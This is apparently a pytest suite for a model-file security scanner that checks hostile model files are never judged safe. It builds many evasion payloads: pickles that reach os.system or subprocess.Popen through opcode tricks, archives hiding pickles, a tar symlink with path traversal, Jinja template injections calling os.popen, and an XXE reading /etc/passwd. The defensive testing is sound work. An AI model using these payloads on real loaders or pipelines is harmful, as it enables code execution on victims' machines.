# SPDX-License-Identifier: Apache-2.0
"""Files made to get past a scanner by somebody who knew ours: each must be unsafe or undecidable, its healthy twin silent."""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable

import pytest

from pipeline_guard.gate.model_file import ModelVerdict, inspect
from tests.unit.gate.models import field, gguf, keras, layer, onnx, operator, safetensors, saved_model
from tests.unit.gate.pickles import array, gadget, npy, packed, tensor_state, text, torch_zip

EVAL = gadget()
RUN = b"cos\nsystem\n"  # a global of protocol 0
TENSOR = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}


def short(word: str) -> bytes:
    return b"\x8c" + bytes([len(word)]) + word.encode()


def put(value: bytes, *more: bytes) -> bytes:
    """Return a pickle of protocol 4 around opcodes."""
    return b"\x80\x04" + value + b"".join(more) + b"."


def made(module: str, name: str) -> bytes:
    """Return an object that is made empty."""
    return f"c{module}\n{name}\n".encode() + b")\x81"


def mapping(**items: bytes) -> bytes:
    return b"}(" + b"".join(text(name) + value for name, value in items.items()) + b"u"


def tar(**members: bytes) -> bytes:
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as archive:
        for name, content in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return stream.getvalue()


def linked() -> bytes:
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as archive:
        info = tarfile.TarInfo("data.pkl")
        info.type, info.linkname = tarfile.SYMTYPE, "../../../home/user/.cache/evil.pkl"
        archive.addfile(info)
        body = tarfile.TarInfo("other")
        body.size = len(EVAL)
        archive.addfile(body, io.BytesIO(EVAL))
    return stream.getvalue()


def two_directories() -> bytes:
    """A zip whose local header names another member than its directory."""
    content = packed({"net/data.pkl": EVAL})
    return content.replace(b"net/data.pkl", b"net/data.txt", 1)


def prefixed(head: bytes) -> bytes:
    return head + torch_zip(EVAL)


def memo_swap() -> bytes:
    """The names are harmless when they are memoized, and others when they are used."""
    return put(short("collections"), b"\x94", short("OrderedDict"), b"\x940", b"0", short("os"), b"q\0", b"0", short("system"), b"q\x010",
               b"h\0h\x01\x93", text("id"), b"\x85R")  # fmt: skip


def inner(loader: bytes) -> bytes:
    """A pickle in bytes that a call loads again."""
    return put(loader, b"C", bytes([len(EVAL)]), EVAL, b"\x85R")


def lend_twice() -> bytes:
    """getattr is used as pandas does, kept, and used again."""
    zone = b"cbuiltins\ngetattr\n\x94czoneinfo\nZoneInfo\n" + text("_unpickle") + b"\x86R0"
    return put(zone, b"h\0", b"cbuiltins\nobject\n", text("__subclasses__"), b"\x86R)R")


PICKLES: dict[str, bytes] = {
    "memo games": memo_swap(),
    "names by GET of an overwritten memo": put(
        short("math"), b"q\x050", short("os"), b"q\x050h\x05", short("system"), b"\x93", text("id"), b"\x85R"
    ),
    "ext1": put(b"\x82\x01", text("id"), b"\x85R"),
    "ext2": put(b"\x83\x01\x02)R"),
    "ext4": put(b"\x84\x01\x02\0\0)R"),
    "inst": b"(S'id'\nios\nsystem\n.",
    "obj": b"(" + RUN + b"S'id'\no.",
    "persistent id as text": b"Pos.system('id')\n.",
    "persistent id that is an object": put(RUN, text("id"), b"\x85RQ"),
    "persistent id of another kind": put(b"(", text("module"), RUN, text("x"), b"tQ"),
    "module persistent id, called": put(b"(", text("module"), RUN, text("a"), text("b"), b"tQ", text("id"), b"\x85R"),
    "dup of a global": put(RUN, b"2", text("id"), b"\x85R0"),
    "two marks": put(b"((", RUN, text("id"), b"tt0N"),
    "frame of another length": b"\x80\x04\x95\x02\0\0\0\0\0\0\0" + RUN + text("id") + b"\x85R.",
    "frame beyond the end": b"\x80\x04\x95\xff\xff\xff\xff\xff\xff\xff\x7f" + RUN + text("id") + b"\x85R.",
    "protocol in the middle": b"N0\x80\x02" + RUN + text("id") + b"\x85R.",
    "protocol of the future": b"\x80\x06" + RUN + text("id") + b"\x85R.",
    "protocol 0 with protocol 4 opcodes": short("os") + short("system") + b"\x93" + text("id") + b"\x85R.",
    "next buffer": put(b"\x97\x98", RUN, b"\x86", b"0", RUN, text("id"), b"\x85R"),
    "after stop": pickle.dumps([1]) + EVAL,
    "after a stop and NULs": pickle.dumps([1]) + bytes(7) + EVAL,
    "string with escapes": b"S'o\\x73'\nS'sys\\164em'\n\x93S'id'\n\x85R.",
    "unicode with escapes": b"V\\u006fs\nVsystem\n\x93Vid\n\x85R.",
    "name with dots": put(short("collections"), short("OrderedDict.__init__.__globals__.get"), b"\x93", text("x"), b"\x85R"),
    "module of a package": put(b"ctorch.serialization\nos.system\n", text("id"), b"\x85R"),
    "module through an alias": put(b"cnumpy.lib.npyio\npickle\n0N"),
    "loads again": inner(b"cpickle\nloads\n"),
    "loads again by an allowed package": inner(b"cjoblib.numpy_pickle\nload\n"),
    "loads again by pandas": put(b"cpandas.io.pickle\nread_pickle\n", text("http://example.org/x.pkl"), b"\x85R"),
    "loads again by numpy": put(b"cnumpy\nload\n", text("x.npy"), b"\x85R"),
    "torch's lent loader with a path": put(b"ctorch.storage\n_load_from_bytes\n", text("/tmp/x"), b"\x85R"),
    "torch's lent loader, nested": inner(b"ctorch.storage\n_load_from_bytes\n"),
    "getattr lent twice": lend_twice(),
    "getattr chain": put(b"cbuiltins\ngetattr\n", b"cbuiltins\nint\n", text("__class__"), b"\x86R"),
    "partial of system": put(b"cfunctools\npartial\n", RUN, b"\x85R"),
    "partial whose state is system": put(b"cfunctools\npartial\n", b"cbuiltins\nint\n", b"\x85R(", RUN, b")}Ntb"),
    "map": put(b"cbuiltins\nmap\n", RUN, b"]", text("id"), b"a\x86R"),
    "reduce": put(b"cfunctools\nreduce\n", RUN, b"]\x86R"),
    "methodcaller": put(b"coperator\nmethodcaller\n", text("system"), text("id"), b"\x86R"),
    "attrgetter": put(b"coperator\nattrgetter\n", text("system"), b"\x85R"),
    "factory": put(b"ccollections\ndefaultdict\n", RUN, b"\x85R"),
    "factory with a method of an empty object": put(
        b"ccollections\ndefaultdict\ncbuiltins\ngetattr\n", made("gensim.models.ldamodel", "LdaModel"), text("load"), b"\x86R\x85R"
    ),
    "codec that unpacks": put(b"c_codecs\nencode\n", text("x"), text("zlib_codec"), b"\x86R"),
    "reconstructor of a function": put(b"ccopyreg\n_reconstructor\n", RUN, b"cbuiltins\nobject\nN\x87R"),
    "newobj of an instance": put(RUN, text("id"), b"\x85\x81"),
    "newobj_ex with names": put(b"csubprocess\nPopen\n)", mapping(args=text("id")), b"\x92"),
    "a plain class called": put(b"cnetworkx.classes.graph\nGraph\n", text("x"), b"\x85R"),
    "a plain class called without arguments": put(b"cnetworkx.classes.graph\nGraph\n)R"),
    "a plain class made of arguments": put(b"clifelines.fitters.coxph_fitter\nCoxPHFitter\n", text("x"), b"\x85\x81"),
    "a plain class made of names": put(b"clifelines.fitters.coxph_fitter\nCoxPHFitter\n)", mapping(penalizer=text("x")), b"\x92"),
    "a plain class with two states": put(
        made("lifelines.fitters.coxph_fitter", "CoxPHFitter"),
        mapping(_model=made("scipy.stats._continuous_distns", "norm_gen")),
        b"b",
        mapping(_parse_arg_template=text("import os")),
        b"b",
    ),
    "a plain class that is appended to": put(made("lifelines.fitters.coxph_fitter", "CoxPHFitter"), mapping(_model=b"]"), b"b(Ne"),
    "a plain class that takes an item": put(made("lifelines.fitters.coxph_fitter", "CoxPHFitter"), text("a"), b"Ns"),
    "a plain class whose state sets properties": put(made("xarray.core.variable", "Variable"), b"N", mapping(data=b"N"), b"\x86b"),
    "a dictionary of attributes": put(
        made("sklearn.utils._bunch", "Bunch"), mapping()[:0], b"(", text("extend"), b"cfunctools\npartial\n", b"u(Ne"
    ),
    "a dictionary of attributes, by its maker": put(
        b"ccopyreg\n_reconstructor\n",
        b"cscipy.optimize._optimize\nOptimizeResult\n",
        b"cbuiltins\ndict\n",
        mapping(__setstate__=b"cfunctools\npartial\n"),
        b"\x87R}b",
    ),
    "a hook over the limit of keys": put(
        made("sklearn.utils._bunch", "Bunch"),
        b"}(",
        b"".join(text(f"k{n}") + b"N" for n in range(70)),
        text("__setstate__"),
        b"cfunctools\npartial\nub",
    ),
    "a module that is appended to": put(
        made("torch.nn.modules.container", "Sequential"), mapping(_modules=mapping(extend=b"cfunctools\npartial\n")), b"b(Ne"
    ),
    "an enumeration by an object": put(b"coptuna.trial._state\nTrialState\n", b"cnumpy\npoly1d\n)\x81\x85R"),
    "a maker of Cython with a function": put(b"csklearn._loss._loss\n__pyx_unpickle_CyHuberLoss\n", RUN, b"K\x01N\x87R"),
    "a frozen distribution with code": put(
        made("statsmodels.distributions.discrete", "zipoisson_gen"), mapping(_parse_arg_template=text("import os")), b"b"
    ),
    "dill's types": put(b"cdill._dill\n_load_type\n", text("CodeType"), b"\x85R"),
    "dill's types, called": put(b"cdill._dill\n_load_type\n", text("FunctionType"), b"\x85R)R"),
    "type with three arguments": put(b"cbuiltins\ntype\n", text("x"), b")}\x87R"),
    "a reference system at a path": put(b"cpyproj.crs.crs\nCRS\n", text("+init=/tmp/x:1"), b"\x85R"),
    "an array of objects": put(
        array()[:-2].replace(b"f8", b"O8")[:0], b"cnumpy.core.multiarray\n_reconstruct\n", RUN, b"K\0\x85C\x01b\x87R"
    ),
    "a scalar of objects": put(b"cnumpy.core.multiarray\nscalar\n", b"cnumpy\ndtype\n", text("O"), b"\x85R", RUN, b"\x86R"),
    "setattr by BUILD on a class": put(b"cnumpy\npoly1d\n", mapping(__call__=RUN), b"b"),
    "int with a huge line": b"I" + b"9" * 5_000_000 + b"\n.",
    "deep nesting": put(b"]" * 100_000, RUN, text("id"), b"\x85R", b"a" * 99_999),
    "a million marks": put(b"(" * 1_000_001),
}
CONTAINERS: dict[str, tuple[bytes, str]] = {
    "torch zip under a picture's name": (torch_zip(EVAL), "cat.png"),
    "torch zip behind a picture": (prefixed(b"\x89PNG\r\n\x1a\n" + bytes(64)), "m.pt"),
    "torch zip behind a pickle": (prefixed(pickle.dumps({"a": 1})), "m.pt"),
    "pickle before a zip": (EVAL + torch_zip(tensor_state()), "m.pt"),
    "local name other than central": (two_directories(), "m.pt"),
    "joblib and zip in one": (zlib.compress(EVAL) + packed({"a": b"x"}), "m.joblib"),
    "xz of gzip of pickle": (lzma.compress(gzip.compress(EVAL)), "m.pkl"),
    "bz2 twice": (bz2.compress(bz2.compress(EVAL)), "m.joblib"),
    "second gzip member": (gzip.compress(pickle.dumps([1])) + gzip.compress(EVAL), "m.pkl.gz"),
    "nemo": (tar(**{"model_config.yaml": b"target: nemo.Model\n", "model_weights.ckpt": torch_zip(EVAL)}), "m.nemo"),
    "mar": (
        packed({"MAR-INF/MANIFEST.json": b'{"model": {"handler": "handler.py"}}', "handler.py": b"import os", "m.pt": torch_zip(EVAL)}),
        "m.mar",
    ),
    "tar with a link": (linked(), "m.tar"),
    "legacy torch tar": (tar(storages=EVAL, tensors=EVAL, pickle=EVAL), "m.pt"),
    "7z": (b"7z\xbc\xaf\x27\x1c\0\4" + bytes(40), "m.pkl"),
    "7z of torch": (b"7z\xbc\xaf\x27\x1c\0\4" + bytes(40), "model.pt"),
    "zstd": (b"\x28\xb5\x2f\xfd" + bytes(40), "m.joblib"),
    "npy whose header lies": (npy("{'descr': '<f8', 'fortran_order': False, 'shape': (1,), 'descr': '|O'}", EVAL), "a.npy"),
    "npy with a field of objects": (npy("{'descr': [('a', '<f8'), ('b', '|O')], 'fortran_order': False, 'shape': (1,), }", EVAL), "a.npy"),
    "npz": (packed({"a.npy": npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", EVAL)}), "a.npz"),
    "zip in a zip in a tar": (tar(x=packed({"y": packed({"z.bin": EVAL})})), "data.bin"),
    "spark mllib": (packed({"metadata/part-00000": b'{"class":"pyspark.ml.PipelineModel"}', "stages/0/data.pkl": EVAL}), "spark.zip"),
    "an R file that is gzip of a pickle": (gzip.compress(EVAL), "m.rds"),
    "a parquet file with a pickle in a column": (b"PAR1" + bytes(32) + EVAL + bytes(32) + b"PAR1", "t.parquet"),
    "an arrow file with a pickle in a column": (b"ARROW1\0\0" + bytes(32) + EVAL + bytes(32) + b"ARROW1", "t.arrow"),
    "a pickle behind safetensors": (safetensors({"w": TENSOR}, bytes(8) + EVAL), "m.safetensors"),
}
FORMATS: dict[str, tuple[bytes, str]] = {
    "keras function of a module": (keras({"class_name": "function", "config": "system", "module": "os", "registered_name": "system"}).encode(), "config.json"),
    "keras module with a twin key": (keras(layer("Dense", module="keras.layers")).replace('"module": "keras.layers"', '"module": "keras.layers", "module": "os"').encode(), "config.json"),
    "keras lambda deep in a wrapper": (keras(layer("TimeDistributed", {"layer": layer("Lambda", {"function": {"class_name": "__lambda__", "config": {"code": "4wE="}}})})).encode(), "config.json"),
    "keras custom object of another package": (keras(layer("Own", module="evil.layers", registered_name="Own")).encode(), "m.json"),
    "keras archive with a zip as weights": (packed({"config.json": keras(layer("Dense", module="keras.layers")).encode(), "model.weights.h5": packed({"x.pkl": EVAL})}), "m.keras"),
    "saved model that reads": (saved_model(["MatMul", "ReadFile"]), "saved_model.pb"),
    "saved model that writes": (saved_model(["WriteFile"]), "saved_model.pb"),
    "saved model with PyFunc in a function": (saved_model(["MatMul"], ["PyFunc"]), "saved_model.pb"),
    "saved model with stateless PyFunc": (saved_model(["EagerPyFunc", "PyFuncStateless"]), "x.pb"),
    "onnx data at a drive": (onnx(field(5, field(8, "w") + field(13, field(1, "location") + field(2, "C:\\x")) + field(14, 1))), "m.onnx"),
    "onnx data at a device": (onnx(field(5, field(8, "w") + field(13, field(1, "location") + field(2, "/dev/stdin")) + field(14, 1))), "m.onnx"),
    "onnx custom domain": (onnx(operator("Run", "ai.evil")), "m.onnx"),
    "gguf with more tensors than bytes": (b"GGUF" + struct.pack("<IQQ", 3, 2**61, 0), "m.gguf"),
    "gguf key longer than the file": (b"GGUF" + struct.pack("<IQQQ", 3, 0, 1, 2**63) + b"x", "m.gguf"),
    "gguf template": (gguf([("tokenizer.chat_template.tool_use", 8, "{{ ''['__cl' ~ 'ass__'] }}")]), "m.gguf"),
    "safetensors overlap": (safetensors({"a": TENSOR, "b": TENSOR}), "m.safetensors"),
    "safetensors header of 2**63": (struct.pack("<Q", 2**63) + b"{}", "m.safetensors"),
    "safetensors twin key": (safetensors('{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'), "m.safetensors"),
    "safetensors shape that overflows": (safetensors({"a": {"dtype": "F32", "shape": [2**63, 2], "data_offsets": [0, 8]}}), "m.safetensors"),
    "skops": (packed({"schema.json": json.dumps({"__class__": "system", "__module__": "os", "__loader__": "FunctionNode", "content": {"module_path": "os", "function": "system"}}).encode()}), "m.skops"),
    "auto_map": (b'{"model_type": "x", "auto_map": {"AutoModel": "modeling_x.X"}}', "config.json"),
    "auto_map nested": (b'{"text_config": {"auto_map": {"AutoConfig": "other/repo--c.C"}}}', "config.json"),
    "auto_map of a tokenizer": (b'{"auto_map": {"AutoTokenizer": ["tok.T", null]}}', "tokenizer_config.json"),
    "template file": (b"{{ cycler.__init__.__globals__.os.popen('id').read() }}", "chat_template.jinja"),
    "template of two names": (b'{"chat_template": [{"name": "a", "template": "{{ x }}"}, {"name": "b", "template": "{{ lipsum.__globals__ }}"}]}', "tokenizer_config.json"),
    "template by format": (b"{{ '%c%cclass%c%c' | format(95,95,95,95) }}{{ ().__class__ }}", "chat_template.jinja"),
    "additional template": (b"{{ namespace.__init__.__globals__ }}", "additional_chat_templates/tool.jinja"),
    "adapter's base": (b'{"auto_mapping": {"base_model_class": "X", "parent_library": "evil.module"}, "peft_type": "LORA"}', "adapter_config.json"),
    "sentence transformers": (b'[{"idx": 0, "name": "0", "path": "", "type": "evil_module.Transformer"}]', "modules.json"),
    "diffusers pipeline": (b'{"_class_name": ["pipeline", "Own"], "unet": ["diffusers", "UNet2DConditionModel"]}', "model_index.json"),
    "diffusers module": (b'{"_class_name": "StableDiffusionPipeline", "unet": ["my_unet", "UNet"]}', "model_index.json"),
    "mlflow loader": (b"flavors:\n  python_function:\n    loader_module: my_loader\n    data: data\n", "MLmodel"),
    "mlflow flow style": (b"flavors: {python_function: {loader_module: evil.loader, data: d}}\n", "MLmodel"),
    "mlflow code": (b"flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    code: code\n", "MLmodel"),
    "pmml with an entity": (b'<?xml version="1.0"?><!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML version="4.4">&x;</PMML>', "m.pmml"),
    "openvino with an extension": (b'<?xml version="1.0"?><net name="m" version="11"><layers><layer id="0" type="Own" version="extension"/></layers></net>', "m.xml"),
}  # fmt: skip
TWINS: dict[str, tuple[bytes, str]] = {
    "memo": (put(short("collections"), b"\x94", short("OrderedDict"), b"\x94\x93)R"), "m.pkl"),
    "torch tensor": (torch_zip(tensor_state()), "m.pt"),
    "graph": (put(made("networkx.classes.graph", "Graph"), mapping(_adj=b"}", graph=b"}"), b"b"), "g.pkl"),
    "fitter": (put(made("lifelines.fitters.coxph_fitter", "CoxPHFitter"), mapping(penalizer=b"N"), b"b"), "g.pkl"),
    "bunch": (put(made("sklearn.utils._bunch", "Bunch"), b"(", text("data"), b"Nu"), "g.pkl"),
    "enumeration": (put(b"coptuna.trial._state\nTrialState\n", b"K\x01\x85R"), "s.pkl"),
    "dill's type": (put(b"cdill._dill\n_load_type\n", text("slice"), b"\x85R"), "s.dill"),
    "no type": (put(b"cbuiltins\ntype\nN\x85R"), "s.pkl"),
    "reference system": (put(b"cpyproj.crs.crs\nCRS\n", text("EPSG:4326"), b"\x85R"), "g.pkl"),
    "method of an empty object": (put(b"cbuiltins\ngetattr\n", made("statsmodels.tsa.exponential_smoothing.ets", "ETSModel"), text("loglike"), b"\x86R"), "e.pkl"),
    "named tuple": (put(b"cscipy.stats._stats_py\nDescribeResult\n(K\x01NNNNNt\x81"), "d.pkl"),
    "slots": (put(made("xarray.core.variable", "Variable"), b"N", mapping(_data=b"N", _dims=b"N"), b"\x86b"), "x.pkl"),
    "factory": (put(b"ccollections\ndefaultdict\nclifelines.fitters.coxph_fitter\nCoxPHFitter\n\x85R"), "f.pkl"),
    "nemo": (tar(**{"model_config.yaml": b"target: nemo.Model\n", "model_weights.ckpt": torch_zip(tensor_state())}), "m.nemo"),
    "parquet": (b"PAR1" + bytes(64) + b"PAR1", "t.parquet"),
    "mlflow": (b"flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    data: data\n", "MLmodel"),
}  # fmt: skip


def verdict(content: bytes, path: str) -> ModelVerdict:
    found = inspect(content, path)
    return found.verdict if found else ModelVerdict.SAFE


@pytest.mark.parametrize("name", PICKLES)
def test_a_hostile_pickle_is_never_safe(name: str) -> None:
    assert verdict(PICKLES[name], "model.pkl") is not ModelVerdict.SAFE


@pytest.mark.parametrize("name", CONTAINERS)
def test_a_hostile_container_is_never_safe(name: str) -> None:
    assert verdict(*CONTAINERS[name]) is not ModelVerdict.SAFE


@pytest.mark.parametrize("name", FORMATS)
def test_a_hostile_file_of_another_format_is_never_safe(name: str) -> None:
    assert verdict(*FORMATS[name]) is not ModelVerdict.SAFE


@pytest.mark.parametrize("name", TWINS)
def test_the_healthy_twin_is_silent(name: str) -> None:
    assert verdict(*TWINS[name]) is ModelVerdict.SAFE


WRAPPERS: dict[str, Callable[[bytes], bytes]] = {"gzip": gzip.compress, "zip": lambda data: packed({"x.pkl": data}), "torch": torch_zip}


@pytest.mark.parametrize("wrapper", WRAPPERS)
def test_a_wrapper_changes_nothing(wrapper: str) -> None:
    calm = [
        name
        for name, content in PICKLES.items()
        if len(content) < 10_000 and verdict(WRAPPERS[wrapper](content), "m.pkl") is ModelVerdict.SAFE
    ]
    assert calm == []


def test_zip_members_that_are_stored_twice_are_never_safe() -> None:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("net/data.pkl", tensor_state())
        with pytest.warns(UserWarning, match="Duplicate"):
            archive.writestr("net/data.pkl", EVAL)
    assert verdict(stream.getvalue(), "m.pt") is not ModelVerdict.SAFE
